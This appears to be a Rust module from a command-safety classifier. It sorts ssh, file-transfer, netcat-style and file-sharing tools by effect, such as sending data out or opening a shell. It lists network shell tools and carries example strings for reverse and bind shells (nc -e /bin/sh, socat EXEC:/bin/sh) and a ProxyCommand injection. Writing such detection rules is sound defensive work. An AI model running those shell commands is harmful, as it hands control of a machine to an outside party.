//! What reaches other machines: shells there, copies, connections.

use super::On::{Elsewhere, Last};
use super::usual::{FETCH, FOREIGN, INSTALL, MACHINE, READ, RIGHTS, SEND, UNCLEAR, help};
use super::{Program, Rest, Runs, Use, known, when};
use crate::effect::EffectKind::{LeavesMachine, Overwrites};

pub(super) static PROGRAMS: &[Program] = &[
    known(
        &[
            "ssh", "autossh", "mosh", "et", "dbclient", "slogin", "plink",
        ],
        Rest::Unknown,
        SSH,
    )
    .valued(&[
        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
        "-Q", "-R", "-S", "-W", "-w", "-B", "--ssh", "--port",
    ]),
    known(
        &["sshpass"],
        Rest::Unknown,
        &[
            when("", READ).flags(&["-V|-h"]).examples(&["sshpass -V"]),
            when("", FETCH)
                .runs(Runs::Command(0))
                .examples(&["sshpass -p x ssh host ls"]),
        ],
    )
    .valued(&["-p", "-f", "-d", "-P"]),
    known(
        &["scp", "pscp"],
        Rest::Unknown,
        &[
            when("*:*", &[(LeavesMachine, Elsewhere), (Overwrites, Last)])
                .without(&["-3"])
                .runs(Runs::Special)
                .examples(&["scp host:/a/b .", "scp -r user@host:dir out"]),
            when("", SEND)
                .why("files are copied to another machine")
                .runs(Runs::Special)
                .examples(&["scp a.txt host:/tmp", "scp -r dist user@host:/var/www"]),
        ],
    )
    .valued(&["-c", "-F", "-i", "-J", "-l", "-o", "-P", "-S", "-X", "-D"]),
    known(
        &[
            "sftp",
            "ftp",
            "lftp",
            "ncftp",
            "tftp",
            "ftps",
            "psftp",
            "cadaver",
            "smbclient",
            "ncftpput",
            "ncftpget",
            "curlftpfs",
        ],
        Rest::Unknown,
        &[
            help(&["lftp --version"]),
            when("*:*", INSTALL)
                .without(&["-b|-c|-e"])
                .flags(&["-a|-r|-p"])
                .examples(&["sftp -r host:dir"]),
            when("", SEND)
                .why("files can be changed on the other machine")
                .examples(&[
                    "sftp host",
                    "ftp example.com",
                    "lftp -e 'mirror -R a' host",
                    "sftp -b batch host",
                ]),
        ],
    )
    .valued(&["-b", "-i", "-o", "-P", "-F", "-u", "-e", "-c", "-p"]),
    known(
        &[
            "nc",
            "ncat",
            "netcat",
            "socat",
            "telnet",
            "nc.openbsd",
            "nc.traditional",
            "socket",
            "pwncat",
            "chisel",
            "udptunnel",
            "sbd",
            "cryptcat",
            "powercat",
        ],
        Rest::Unknown,
        NETCAT,
    )
    .valued(&[
        "-i", "-I", "-O", "-p", "-P", "-q", "-s", "-T", "-V", "-w", "-X", "-x",
    ]),
    known(
        &[
            "croc",
            "wormhole",
            "magic-wormhole",
            "transfer",
            "transfer.sh",
            "ffsend",
            "send",
            "onionshare-cli",
            "filebin",
            "pastebinit",
            "termbin",
            "sprunge",
            "ix",
            "0x0",
            "haste",
            "gpaste",
            "rustypaste",
            "piping",
            "portal",
            "zget",
            "bashupload",
            "qrcp",
            "woof",
            "dufs",
            "pcp",
        ],
        Rest::Unknown,
        &[
            help(&["croc --version"]),
            when("receive|recv|download|get", INSTALL)
                .examples(&["wormhole receive 7-a-b", "ffsend download x"]),
            when("", SEND)
                .why("what is sent can be read by others")
                .examples(&[
                    "croc send a.txt",
                    "wormhole send a.txt",
                    "pastebinit a.log",
                    "transfer a.txt",
                ]),
        ],
    ),
];

const OUT: &str = "it sends data to another machine";

const SSH: &[Use] = &[
    when("", READ).flags(&["-V|--version|--help|-Q|-G"]).examples(&["ssh -V", "ssh -Q cipher", "ssh -G host"]),
    when("", UNCLEAR).flags(&["ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|-oProxyCommand|-oLocalCommand"]).why("the flag names a program to run").examples(&["ssh -o ProxyCommand=evil host", "ssh -oProxyCommand=evil host"]),
    when("", RIGHTS).flags(&["-R|-D|-w"]).why("it opens a way into this machine or through it").examples(&["ssh -R 8080:localhost:80 host", "ssh -D 1080 host"]),
    when("", MACHINE).flags(&["-L|-N|-f|-W|-O"]).why("it opens a way to another network that stays open").examples(&["ssh -L 5432:db:5432 host", "ssh -N -f host"]),
    when("git@*", FETCH).flags(&["-T"]).examples(&["ssh -T git@github.com"]),
    when("*", FETCH).operands(1).runs(Runs::Remote(0)).examples(&["ssh host ls", "ssh -i key user@host 'df -h'", "ssh -t host -- uptime"]),
    when("", UNCLEAR).why("it opens a shell on another machine").instead("ssh HOST COMMAND, with a command that only reads").examples(&["ssh host", "ssh user@host -p 22"]),
];

const NETCAT: &[Use] = &[
    help(&["ncat --version"]),
    when("", FOREIGN)
        .flags(&["-e|-c|--exec|--sh-exec|--lua-exec"])
        .why("whoever is at the other end runs commands here")
        .examples(&["nc -e /bin/sh host 4444", "ncat --sh-exec bash host 1"]),
    when("EXEC*|SYSTEM*|exec*|system*", FOREIGN)
        .why("whoever is at the other end runs commands here")
        .examples(&["socat EXEC:/bin/sh TCP:host:1"]),
    when("* EXEC*|SYSTEM*|exec*|system*", FOREIGN)
        .why("whoever is at the other end runs commands here")
        .examples(&["socat TCP-LISTEN:1 EXEC:/bin/sh"]),
    when("", FETCH)
        .flags(&["-z"])
        .examples(&["nc -z host 80", "nc -zv localhost 5432"]),
    when("", RIGHTS)
        .flags(&["-l|-L|--listen|-k"])
        .why("it lets others connect to this machine")
        .examples(&["nc -l 4444", "nc -lvnp 4444"]),
    when("client|server", RIGHTS)
        .why("it lets others connect to this machine")
        .examples(&["chisel server"]),
    when("localhost|127.0.0.1", FETCH).examples(&["nc localhost 80", "telnet localhost 25"]),
    when("", SEND).why(OUT).examples(&[
        "nc host 4444",
        "telnet example.com 25",
        "socat - TCP:host:80",
    ]),
];
